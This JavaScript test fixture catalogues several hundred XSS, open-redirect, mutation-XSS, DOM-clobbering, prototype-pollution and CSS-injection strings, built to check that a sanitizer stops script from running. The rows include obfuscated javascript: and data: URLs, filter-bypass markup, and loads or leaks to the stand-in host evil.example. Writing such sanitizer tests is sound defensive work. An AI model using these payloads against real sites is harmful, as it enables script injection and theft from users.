// @ts-check
/**
 * Markup, addresses and names that try to run script, lead elsewhere, load, or spoil prototypes: fixed rows, made here.
 *
 * Each row is one text. tests/browser/attacked.mjs puts every text into every place of every kind of change; a new kind
 * adds its places there. Whatever runs calls `hit()`, a frame `parent.hit()`. `runs` says that the text runs in every
 * engine when it is written with nobody checking, in the way of its form: what proves that a hit would be noticed.
 *
 * @typedef {object} Attack
 * @property {'url' | 'markup' | 'name' | 'tag' | 'style'} form what it is made to be: a link's address, markup, an attribute's name,
 *   an element's, a style's value
 * @property {string} family
 * @property {string} text
 * @property {boolean} runs
 */

/** @type {Attack[]} */
export const ATTACKS = [];
/** @param {Attack['form']} form @param {string} family @param {string[]} texts @param {boolean} [runs] */
const add = (form, family, texts, runs = false) => {
  for (const text of texts) ATTACKS.push({ form, family, text, runs });
};

const RUNS = true;

// Addresses.

add("url", "plain and in other letters", ["javascript:hit()", "JAVASCRIPT:hit()", "jAvAsCrIpT:hit()", "javascript:void(hit())", "javascript:;hit();"], RUNS);
add("url", "what parsers drop in front", [" ", "   ", "\t", "\n", "\r", "\f", "\u0001", "\u0008", "\u000e", "\u001b", "\u001f", "\u0001 \u0002\t"].map((before) => `${before}javascript:hit()`), RUNS);
add("url", "what parsers drop inside", [
  "java\nscript:hit()", "java\tscript:hit()", "java\rscript:hit()", "javascript\t:hit()", "javascript\n\n:hit()", "j\na\nv\na\ns\nc\nr\ni\np\nt\n:hit()", "\tj\ravascript:hit()",
  "javascript:\th\nit()", "javas\r\ncript:hit()",
], RUNS);
add("url", "what comes after the scheme", [
  "javascript://%0ahit()", "javascript://shop.example/%0Ahit()", "javascript:///%0dhit()", "javascript://x.y/z%0ahit()", "javascript:%68it()", "javascript:void%20hit()", "javascript:/*--></title></style>*/hit()",
  "javascript:'<script>';hit()", "javascript:hit()//https://shop.example", "javascript:hit()?.x", "javascript:[hit()]&&void 0", "javascript:void`${hit()}`",
  "javascript:(()=>{hit()})()", "javascript:eval('hit()');void 0", "javascript:new Function('hit()')();void 0", "javascript:void setTimeout('hit()')", "javascript:void Promise.resolve().then(()=>hit())",
  "javascript:(0,window).hit();void 0", "javascript:\u2028hit()", "javascript:\u00a0hit()", "javascript:\ufeffhit()", "javascript:1?hit():0;void 0",
], RUNS);
add("url", "nearly the scheme", [
  "java script:hit()", "javascript%3ahit()", "javascript&#58;hit()", "javascript&colon;hit()", "&#106;avascript:hit()", "java\u0000script:hit()", "\u00a0javascript:hit()", "\u2003javascript:hit()", "\ufeffjavascript:hit()",
  "javascript\u2236hit()", "javascript:hit()#https://shop.example", "javascript:%68%69%74", "ｊavascript:hit()", "jаvascript:hit()", "java\\script:hit()", "./javascript:hit()", "?javascript:hit()", "#javascript:hit()", "x-javascript:hit()", "mocha:hit()", "livescript:hit()",
  "vbscript:hit()", "VBScript:MsgBox(hit())", "jscript:hit()", "feed:javascript:hit()", "view-source:javascript:hit()", "jar:javascript:hit()!/", "wyciwyg://javascript:hit()", "url:javascript:hit()", "javascript",
]);
add("url", "data and blobs", [
  "data:text/html,<script>parent.hit()</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=", "DATA:text/html,<script>opener.hit()</script>", " data:text/html,<b onclick=hit()>", "data:,hit()",
  "data:text/javascript,hit()", "data:application/javascript,parent.hit()", "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>parent.hit()</script></x>",
  "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>parent.hit()</script></html>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit()'/>",
  "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LmhpdCgpIi8+", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.hit()</script></svg>",
  "data:image,x", "data:image/,x", "data:imagex/png,x", "data:text/html image/png,<script>hit()</script>", "data:image/png", "blob:https://shop.example/0", "blob:null/0", "filesystem:https://shop.example/temporary/x",
]);
add("url", "other schemes", ["about:blank", "about:srcdoc", "file:///etc/passwd", "ftp://evil.example/", "ws://evil.example/", "chrome://settings", "resource://gre/", "intent://evil.example#Intent;end", "ms-word:ofe|u|x", "x:y", ":", "://"]);
add("url", "hosts that look like paths", [
  "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example", "/\t/evil.example", "\n//evil.example", " //evil.example", "/\n/evil.example", "/\r\\evil.example",
  "//evil.example:80", "//evil%2eexample", "//[::1]", "//2130706433", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "https:/\\evil.example", "https:///evil.example", "http:///evil.example",
  "ht\ntps:evil.example", "https:\t//evil.example@shop.example", "https://", "https://[", "http://%zz/", "https://shop.example:99999/", "https://shop.example\\@evil.example", "//shop.example@evil.example",
]);
add("url", "names and passwords in front of a host", ["https://user@evil.example/", "https://shop.example@evil.example/", "https://a:b@evil.example", "https://:b@evil.example", "https://shop.example%2F@evil.example", "https://@evil.example", "http:user@evil.example"]);

// Attributes' names. The value beside each is `hit()`.

add("name", "handlers", ["onclick", "onfocus", "onmouseover", "onpointerdown", "ondblclick", "onkeydown", "oninput", "onchange", "onwheel", "onanimationstart", "oncopy", "onpaste", "ondrag", "onscroll", "onselect"], RUNS);
add("name", "handlers in other letters", ["ONCLICK", "OnClick", "onClick", "oNfOcUs"], RUNS);
add("name", "handlers, nearly", ["onclick ", "\nonclick", "onclick\u0000", "on", "on click", "onсlick", "data-x onclick", "x\"onclick=\"hit()", "x/onclick", "onclick=hit()//", "aria-x><b onclick=hit()>", "data-><script>hit()</script>"]);
add("name", "what loads, frames or submits", [
  "style", "srcdoc", "formaction", "action", "xlink:href", "ping", "http-equiv", "is", "nonce", "background", "sandbox", "allow", "content", "name", "form", "method", "srcset", "imagesrcset", "manifest", "data", "code", "codebase",
  "classid", "archive", "longdesc", "lowsrc", "dynsrc", "profile", "usemap", "itemid", "shadowrootmode", "contenteditable", "autofocus", "accesskey", "popovertarget", "commandfor", "integrity", "referrerpolicy", "attributionsrc",
  "slot", "part", "attributename", "values", "to", "from", "by", "begin", "HREF", "Href", "href ", "data-", "aria-", "xml:base", "xmlns", "style\u0000",
]);
add("name", "keys that every object has", ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "__lookupSetter__", "isPrototypeOf", "constructor.prototype.hit", "__proto__.hit", "__proto__[hit]", "innerHTML", "outerHTML", "textContent", "cssText", "", " "]);

// Elements' names. The text inside each is `hit()`.

add("tag", "what runs", ["script", "SCRIPT", "sCrIpT"], RUNS);
add("tag", "what runs, nearly", ["script ", " script", "script\n", "script\u0000", "svg:script", "a><script", "script src=x", "script/x", "ѕcript"]);
add("tag", "what loads, frames, configures or hides", [
  "style", "STYLE", "iframe", "frame", "frameset", "fencedframe", "object", "embed", "applet", "base", "link", "meta", "template", "noscript", "param", "portal", "svg", "math", "form", "input", "select", "textarea", "option", "html",
  "head", "body", "title", "plaintext", "xmp", "noembed", "noframes", "listing", "marquee", "slot", "x-foo", "a-b", "image", "isindex", "keygen", "canvas", "dialog", "foreignobject", "animate", "set", "audio", "track", "map", "bgsound", "!--", "!doctype",
  "?xml", "1", "img onerror=hit()", "img src=x onerror=hit() ", "b\nonclick=hit()", "div\n", "p.x", "p#x", "[object Object]",
]);

// Markup. Those that run do so as it is parsed into the page, by itself or when poked.

const on = (/** @type {string[]} */ ...rows) => add("markup", "handlers", rows, RUNS);
on("<img src=/none.svg onerror=hit()>", "<img src=/none.svg onerror='hit()'>", "<img src=/none.svg OnErRoR=\"hit()\">", "<img/src='/none.svg'/onerror=hit()>", "<img\nsrc=/none.svg\tonerror\r=\nhit()>", "<img src=/dot.svg onload=hit()>",
  "<img src=/none.svg onerror=&#104;it()>", "<img src=/none.svg onerror=&#x68;it()>", "<img src=/none.svg alt='>' onerror=hit()>", "<image src=/none.svg onerror=hit()>", "<p><img src=/none.svg onerror=hit()></p><!--",
  "<b><img src=/none.svg onerror=`${hit()}`>", "<img title='</script>' src=/none.svg onerror=hit()>", "<picture><source srcset=/none.svg><img onerror=hit()></picture>", "<img src=/none.svg onerror=eval('hit()')>", "<img src=/none.svg onerror=\"setTimeout('hit()')\">",
  "<b onclick=hit()>x</b>", "<button onfocus=hit()>x</button>", "<p onmouseover=hit()>x", "<a onpointerdown=hit()>x</a>", "<div oncontextmenu=hit()>x</div>", "<input oninput=hit()>", "<details ontoggle=hit()>x</details>", "<form onsubmit=hit()></form>",
  "<video onloadstart=hit()></video>", "<x onclick=hit()>x</x>", "<x-y-z onclick=hit()>x</x-y-z>", "<xss onfocus=hit() tabindex=1>", "<svg onclick=hit()></svg>", "<math onclick=hit()></math>",
  "<table><td onclick=hit()>x</table>", "<select onchange=hit()></select>", "<marquee onclick=hit()>x</marquee>", "<dialog onclose=hit()></dialog>", "<p style=color:red onclick=hit()>x", "<b class=x id=y onclick=hit() onclick=0>x</b>", "</p><b onclick=hit()>x", "<<b onclick=hit()>x",
  "<b/onclick=hit()>x", "<b \"onclick=hit()\" onclick=hit()>x", "<b =onclick onclick=hit()>x</b>");
add("markup", "scripts", ["]]><script>hit()</script>", "--><script>hit()</script>", "<!--><script>hit()</script>-->", "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script >hit()</script >", "<script\n>hit()</script\n>", "<script/x>hit()</script>", "<script type=text/javascript>hit()</script>", "<script type=module>hit()</script>",
  "<script>/*<!--*/hit()</script>", "<script><!--\nhit()</script>", "<script>hit()<\u002fscript><b>", "<b><script>hit()</script></b>", "<script>`</b>`;hit()</script>", "<script>eval('hit()')</script>", "<script src='data:text/javascript,hit()'></script>",
  "<math><mtext><script>hit()</script></mtext></math>", "<table><script>hit()</script></table>", "<div><p><span><i><script>hit()</script>"], RUNS);
add("markup", "scripts that nobody runs so", ["<svg><script>hit()</script></svg>", "<svg><script>&#104;it()</script></svg>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script type=text/plain>hit()</script>", "<script language=vbs>hit()</script>", "&lt;script&gt;hit()&lt;/script&gt;",
  "\\x3cscript\\x3ehit()\\x3c/script\\x3e", "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "＜script＞hit()＜/script＞", "<\u0000script>hit()</script>", "<ſcript>hit()</ſcript>", "< script>hit()</ script>",
  "<!--<script>hit()</script>-->", "<![CDATA[<script>hit()</script>]]>", "<textarea><script>hit()</script></textarea>", "<title><script>hit()</script></title>", "<template><script>hit()</script></template>",
  "<noscript><p title='</noscript><img src=/none.svg onerror=x>'>", "<script>/*</script>*/hit()</script>"]);
add("markup", "links and forms", ["<a href=javascript:hit()>x</a>", "<a href='&#106;avascript:hit()'>x</a>", "<a href='java&Tab;script:hit()'>x</a>", "<a href='java&NewLine;script:hit()'>x</a>", "<a href='javascript&colon;hit()'>x</a>", "<a href='&#1;javascript:hit()'>x</a>",
  "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>", "<svg><a href=javascript:hit()><text>x</text></a></svg>", "<map><area href=javascript:hit()></map>", "<b><a target=_self href=javascript:hit()>x"], RUNS);
add("markup", "links and forms that need more than a poke", ["<form action=javascript:hit()><input type=submit></form>", "<button form=f formaction=javascript:hit()>x</button><form id=f></form>", "<isindex action=javascript:hit() type=image>", "<math href=javascript:hit()>x</math>",
  "<base href=javascript:/a/><a href=#hit()>x</a>", "<base href=//evil.example/>", "<a ping=//evil.example/ href=#>x</a>", "<a href=//evil.example>x</a>", "<a href=data:text/html,x>x</a>"]);
add("markup", "frames", ["<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<iframe srcdoc='&lt;img src=/none.svg onerror=parent.hit()&gt;'></iframe>", "<iframe src='javascript:parent.hit()'></iframe>", "<iframe onload=hit()></iframe>", "<iframe src=/dot.svg onload=hit()></iframe>",
  "<iframe/srcdoc='<svg onload=parent.hit()>'></iframe>"], RUNS);
add("markup", "frames and plugins that engines stop", ["<iframe src='data:text/html,<script>parent.hit()</script>'></iframe>", "<object data=javascript:hit()></object>", "<embed src=javascript:hit()>", "<object data='data:text/html,<script>parent.hit()</script>'></object>", "<object data=/dot.svg onload=hit()></object>", "<embed src=/dot.svg onload=hit()>", "<applet code=hit></applet>",
  "<frameset><frame src=javascript:parent.hit()></frameset>", "<portal src=//evil.example></portal>", "<fencedframe></fencedframe>", "<object><param name=src value=javascript:hit()></object>", "<iframe sandbox srcdoc='<script>parent.hit()</script>'></iframe>"]);
add("markup", "drawings and formulas", ["<svg><animate onbegin=hit() attributeName=x dur=1s></svg>", "<svg><set onbegin=hit() attributeName=x to=1></svg>", "<svg><animatetransform onbegin=hit() attributeName=transform></svg>",
  "<svg><foreignObject><img src=/none.svg onerror=hit()></foreignObject></svg>", "<svg><title><img src=/none.svg onerror=hit()></title></svg>", "<svg><desc><b onclick=hit()>x</b></desc></svg>", "<math><annotation-xml encoding=text/html><img src=/none.svg onerror=hit()></annotation-xml></math>",
  "<math><mi><img src=/none.svg onerror=hit()></mi></math>", "<svg><image href=/none.svg onerror=hit()></svg>"], RUNS);
// Firefox 140 leaves the picture in the drawing, Firefox 153 does not.
add("markup", "drawings that end early in some engines", ["<svg><b><img src=/none.svg onerror=hit()></b></svg>", "<svg><!--><img src=/none.svg onerror=hit()>--></svg>"]);
add("markup", "drawings and formulas that keep still", ["<svg><animate attributeName=href values=javascript:hit() /><text>x</text></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()></svg>#x'></use></svg>", "<svg><handler type=text/javascript>hit()</handler></svg>", "<svg><feImage href=javascript:hit() /></svg>",
  "<math><maction actiontype=statusline#javascript:hit()>x</maction></math>", "<svg><p><style><img src=/none.svg onerror=hit()></style></p></svg>", "<svg><style><img src=/none.svg title='onerror=hit()'></style></svg>", "<svg><![CDATA[<img src=/none.svg onerror=x>]]></svg>"]);
add("markup", "markup that changes when it is read again", ["<svg></p><style><a title='</style><img src=/none.svg onerror=hit()>'>", "<math><mtext><table><mglyph><style><img title='</style><img src=/none.svg onerror=hit()>'>",
  "<noscript><style></noscript><img src=/none.svg onerror=hit()>", "<xmp><p title='</xmp><img src=/none.svg onerror=hit()>'>", "<noembed><b title='</noembed><img src=/none.svg onerror=hit()>'>", "<style><b title='</style><img src=/none.svg onerror=hit()>'>",
  "<textarea><b title='</textarea><img src=/none.svg onerror=hit()>'>", "<p title=\"`\" `=><img src=/none.svg onerror=hit()>`>"], RUNS);
add("markup", "markup that changes when it is read once more", ["<form><math><mtext></form><form><mglyph><style></math><img src=/none.svg onerror=hit()>", "<select><style></select><img src=/none.svg onerror=hit()></style>", "<!--!><img src=/none.svg onerror=hit()>-->", "<table><a><tr><b title='<img src=/none.svg onerror=hit()>'></table>", "<template><s><template><s><img src=/none.svg onerror=hit()>@</s></template></s></template>", "<div><template shadowrootmode=open><img src=/none.svg onerror=hit()></template></div>"]);
add("markup", "names that hide a page's own", ["<form id=body><input name=parentNode></form>", "<img name=getElementById>", "<form id=attributes><input name=attributes></form>", "<a id=hit></a><a id=hit name=x></a>", "<input name=__proto__>", "<form name=createElement></form>", "<form><input name=removeAttribute><input name=nodeName></form>", "<iframe name=self></iframe>"]);
add("markup", "what loads or configures", ["<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>", "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
  "<link rel=modulepreload href=//evil.example/x.js>", "<style>*{background:url(javascript:hit())}</style>", "<b style='width:expression(hit())'>x</b>", "<b style='behavior:url(#x)'>x</b>", "<?xml-stylesheet href=\"javascript:hit()\"?>", "<!ENTITY x SYSTEM 'javascript:hit()'>", "<!doctype x [<!ENTITY y 'hit()'>]>"]);
add("markup", "out of a quoted attribute or an element of text", ["\"><script>hit()</script>", "'><script>hit()</script>", "\"><img src=/none.svg onerror=hit()>", "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</style><script>hit()</script>", "</script><script>hit()</script>"], RUNS);
add("markup", "out of a quoted attribute, a template or a script", ["\" onclick=\"hit()", "' onfocus='hit()' x='", "` onmouseover=`hit()",
  "${hit()}", "{{constructor.constructor('hit()')()}}", "{{hit()}}", "<%= hit() %>", "#{hit()}", "');hit();//", "\\\");hit();//", "\u2028hit()\u2029"]);

// Styles.

add("style", "styles that ran somewhere once, or load", ["expression(hit())", "url(javascript:hit())", "url('javascript:hit()')", "url(\"data:text/html,<script>hit()</script>\")", "-moz-binding:url(//evil.example/x#y)", "red;background:url(//evil.example/x)", "red}*{display:none", "red!important;x:y",
  "url(//evil.example/leak)", "image-set('//evil.example/x' 1x)", "attr(onclick)", "var(--x,url(javascript:hit()))", "\\65xpression(hit())", "exp/**/ression(hit())", "@import '//evil.example'", "red\\;}<style>", "</style><script>hit()</script><style>", "url(x)\\,url(javascript:hit())"]);
